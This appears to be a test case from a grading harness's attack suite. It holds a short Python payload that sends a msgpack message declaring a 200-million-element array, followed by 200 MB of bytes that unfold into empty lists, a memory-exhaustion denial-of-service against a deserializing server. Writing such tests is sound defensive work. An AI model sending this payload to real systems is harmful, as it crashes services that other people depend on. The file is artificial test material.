"""An answer within the limit that unfolds to gigabytes of empty lists."""

from grading.attacks import answering

HARMLESS = False
FLAW, TRICK = "V8", "none"
CELLS = answering("""
import struct
data = b"\\x82\\xa6number\\x01\\xa5value\\xdd" + struct.pack(">I", 200_000_000)
self.connection.sendall(struct.pack("!Q", len(data) + 200_000_000) + data)
for _ in range(200):
    self.connection.sendall(b"\\x90" * 1_000_000)
""")
